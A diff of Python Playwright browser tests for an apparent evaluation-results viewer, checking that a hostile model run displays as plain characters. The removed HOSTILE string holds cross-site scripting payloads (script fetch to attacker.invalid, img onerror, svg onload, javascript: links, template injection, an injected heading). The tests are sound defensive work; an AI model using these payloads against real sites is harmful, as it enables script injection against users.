@@ -13,10 +13,11 @@ import pyarrow as pa
 import pytest
 from axe_playwright_python.sync_playwright import Axe
 from PIL import Image
-from playwright.sync_api import Browser, Dialog, Page, expect
+from playwright.sync_api import Browser, Dialog, Locator, Page, expect
 
 from tests.browser.conftest import OpenPage
 from tests.browser.driver import PATIENCE, served, settled
+from tests.make.hostile_text import HOSTILE
 from tests.make.runs import IDS, LAB, OfResponse, judged_run, sentences
 from tests.make.stores import make_data
 
@@ -25,25 +26,6 @@ EVIL = "Hostile <b>7B</b> · example-judge-1"
 OWN_FAILURES = (3005, 5002, 9001)
 """What the bad run fails and all others pass; it also fails 1001, as everybody does."""
 FAILED = {1001, *OWN_FAILURES}
-HOSTILE = """<script>window.ran = true; fetch("http://attacker.invalid/script")</script>
-<img src="http://attacker.invalid/pixel.png" onerror="window.ran = true">
-<iframe src="http://attacker.invalid/frame"></iframe><svg onload="window.ran = true"></svg>
-![a picture](http://attacker.invalid/markdown.png) [a link](javascript:window.ran=true) <https://attacker.invalid/auto>
-https://attacker.invalid/bare
-
-# A heading
-**bold** *italic* :red[red] :material/delete: $\\frac{1}{2}$ &lt;entity&gt; `code`
-```html
-<b>inside a fence</b>
-```
-| a | b |
-|---|---|
-| 1 | 2 |
-- item
-<details open><summary>summary</summary>hidden</details>
-{{7*7}} ${window.ran = true} </code></pre></div><h1 id="injected">injected</h1>
-\u202eright to left\u202c and\ttab \x07 bell"""
-"""Every way in which a text could become more than characters; attacker.invalid can never resolve."""
 
 
 def made(model: str, verdicts: Mapping[int, Sequence[OfResponse]], **about: Any) -> pa.Table:
@@ -115,7 +97,8 @@ def test_a_hostile_run_is_characters_and_nothing_else(site: str, browser: Browse
     page.set_default_timeout(PATIENCE)
     page.on("dialog", dismissed)
     shown = (
-        at(site, "samples", runs=[EVIL, GOOD], sample="1001"),
+        at(site, "samples", runs=[EVIL, GOOD], sample="1001", judge_words="true"),
+        at(site, "samples", runs=EVIL, sample="1001", formatted="true"),
         at(site, "samples", runs=EVIL, find="attacker"),
         at(site, "run", run=EVIL),
         at(site, "", board="example-judge-1, 3 responses", runs=EVIL),
@@ -126,10 +109,8 @@ def test_a_hostile_run_is_characters_and_nothing_else(site: str, browser: Browse
         expect(page.locator("h1")).to_have_count(1)
         assert page.evaluate("window.ran") is None
         assert page.locator("#injected, iframe, object, embed").count() == 0
-        assert page.locator('[href*="attacker"], [src*="attacker"], [href^="javascript"]').count() == 0
-        assert (
-            page.get_by_text("attacker.invalid").locator("b, strong, em, h1, h2, table, details, code, a").count() == 0
-        )
+        assert page.locator('[href*="attacker.invalid"], [src*="attacker"], [href^="javascript"]').count() == 0
+        assert page.get_by_text("attacker.invalid").locator("b, h1, h2, table, details, a").count() == 0
     assert [url for url in foreign if not url.startswith(("data:", "blob:"))] == []
     assert dialogs == []
 
@@ -144,45 +125,14 @@ def test_a_hostile_run_is_characters_and_nothing_else(site: str, browser: Browse
     context.close()
 
 
-def test_from_the_leaderboard_to_a_runs_first_own_failure_and_back(site: str, open_page: OpenPage) -> None:
-    start = at(site, "", board="example-judge-1, 3 responses", runs=BAD)
-    page = open_page(start)
-    page.get_by_role("link", name="Open the run").click()
-    ready(page, re.compile("Of 4 failures"))
-    run_address = page.url
-    assert "run=Bad-7B" in run_address
-    page.get_by_role("link", name=f"Open the first: sample {OWN_FAILURES[0]}").click()
-    ready(page, f"Bad-7B answers sample {OWN_FAILURES[0]} for the first time.")
-    ready(page, "1 of 4")
-    for expected in OWN_FAILURES[1:]:
-        page.keyboard.press("ArrowRight")
-        ready(page, f"Bad-7B answers sample {expected} for the first time.")
-    page.go_back()
-    page.go_back()
-    page.go_back()
-    ready(page, re.compile("Of 4 failures"))
-    assert page.url == run_address
-    expect(page.get_by_role("combobox", name="Run")).to_have_value(BAD)
-
-
-def test_a_row_of_the_failures_opens_its_sample(site: str, open_page: OpenPage) -> None:
-    page = open_page(at(site, "run", run=BAD))
-    ready(page, re.compile("Of 4 failures"))
-    run_address = page.url
-    table = page.get_by_test_id("stDataFrame").last
-    table.scroll_into_view_if_needed()
-    box = table.bounding_box()
-    assert box is not None
-    page.mouse.click(box["x"] + 20, box["y"] + 35 * 2.5)  # the tick box of the second row
-    ready(page, f"Bad-7B answers sample {OWN_FAILURES[1]} for the first time.")
-    page.go_back()
-    ready(page, re.compile("Of 4 failures"))
-    assert page.url == run_address
+def opened(page: Page) -> Locator:
+    """The row of the list that is marked as open."""
+    return page.locator("a[aria-current=true]")
 
 
 def test_keys_and_buttons_lead_through_the_filtered_list_and_a_link_restores_it(site: str, open_page: OpenPage) -> None:
     query = {"runs": [BAD, GOOD], "outcome": [f"{BAD}: unsafe", f"{GOOD}: safe"]}
-    page = open_page(at(site, "samples", **query, sample=str(OWN_FAILURES[0])))
+    page = open_page(at(site, "samples", **query, order="number", sample=str(OWN_FAILURES[0])))
     ready(page, "1 of 3")
     page.keyboard.press("ArrowRight")
     ready(page, "2 of 3")
@@ -192,7 +142,7 @@ def test_keys_and_buttons_lead_through_the_filtered_list_and_a_link_restores_it(
     page.keyboard.press("ArrowLeft")
     ready(page, "2 of 3")
     # Arrow keys inside a text field move the cursor, not the sample.
-    search = page.get_by_role("textbox", name="Search")
+    search = page.get_by_role("textbox", name="Search samples")
     search.fill("answers")
     search.press("ArrowLeft")
     search.press("Enter")
@@ -202,20 +152,55 @@ def test_keys_and_buttons_lead_through_the_filtered_list_and_a_link_restores_it(
     again = open_page(copied)
     ready(again, "2 of 3")
     ready(again, f"Bad-7B answers sample {OWN_FAILURES[1]} for the second time.")
-    assert (
-        again.get_by_text(re.compile("^Samples unsafe in")).inner_text()
-        == page.get_by_text(re.compile("^Samples unsafe in")).inner_text()
-    )
+    expect(opened(again)).to_contain_text(str(OWN_FAILURES[1]))
+    again.get_by_role("button", name="Previous").click()
+    ready(again, "1 of 3")
+    again.go_back()
+    ready(again, "2 of 3")
 
 
-def test_a_link_is_not_mixed_with_the_filters_of_an_earlier_visit(site: str, open_page: OpenPage) -> None:
-    page = open_page(at(site, "samples", domain="Self-harm", find="rope", runs=BAD, sample="1001"))
-    ready(page, re.compile("in Self-harm; that contain “rope”"))
-    page.get_by_role("link", name="This run").click()
-    ready(page, re.compile("Of 4 failures"))
-    page.get_by_role("link", name="All of them as a list").click()
-    ready(page, f"Samples unsafe in {BAD}.")
-    ready(page, re.compile("4 of 167 samples"))
+def test_a_row_opens_its_sample_by_mouse_key_and_link(site: str, open_page: OpenPage) -> None:
+    page = open_page(at(site, "samples", runs=BAD, show="failed"))
+    ready(page, f"Bad-7B answers sample {OWN_FAILURES[0]} for the first time.")
+    rows = page.get_by_role("list", name="4 samples; a row opens the sample").get_by_role("link")
+    expect(rows).to_have_count(4)
+    rows.nth(2).click()
+    ready(page, f"Bad-7B answers sample {OWN_FAILURES[2]} for the first time.")
+    expect(opened(page)).to_contain_text(str(OWN_FAILURES[2]))
+    rows.nth(2).press("ArrowUp")
+    expect(rows.nth(1)).to_be_focused()
+    page.keyboard.press("Enter")
+    ready(page, f"Bad-7B answers sample {OWN_FAILURES[1]} for the first time.")
+    address = page.url
+    other = open_page(f"{site}/{rows.nth(3).get_attribute('href')}")
+    ready(other, "Bad-7B answers sample 1001 for the first time.")
+    ready(other, "4 of 4")
+    page.reload()
+    ready(page, f"Bad-7B answers sample {OWN_FAILURES[1]} for the first time.")
+    assert page.url == address
+
+
+def test_the_way_on_stays_in_sight_and_a_sample_begins_at_its_top(site: str, open_page: OpenPage) -> None:
+    page = open_page(at(site, "samples", runs=[EVIL, BAD], show="failed"), height=800)
+    pane, step = page.locator(".st-key-sample"), page.get_by_role("button", name="Next")
+    assert pane.evaluate("pane => { pane.scrollTo(0, 9999); return pane.scrollTop }") > 100, "it is a long one"
+    expect(step).to_be_in_viewport()
+    expect(opened(page)).to_be_in_viewport()
+    step.click()
+    ready(page, "2 of 8")
+    assert pane.evaluate("pane => pane.scrollTop") == 0
+    assert page.evaluate("document.querySelector('[data-testid=stMain]').scrollTop") == 0
+
+
+def test_formatted_text_has_no_links_and_no_markup_of_the_models(site: str, open_page: OpenPage) -> None:
+    page = open_page(at(site, "samples", runs=EVIL, sample="1006", formatted="true", judge_words="true"))
+    heading = page.get_by_role("heading", name="A heading").first
+    expect(heading).to_be_visible()
+    made = page.locator(".st-key-sample").locator("a[href*=attacker], img, iframe, script, svg[onload], #injected")
+    assert made.count() == 0
+    assert page.evaluate("window.ran") is None
+    page.get_by_text("Formatted", exact=True).click()
+    expect(heading).to_have_count(0)
 
 
 def test_a_picture_is_blurred_until_asked_for(site: str, open_page: OpenPage) -> None:
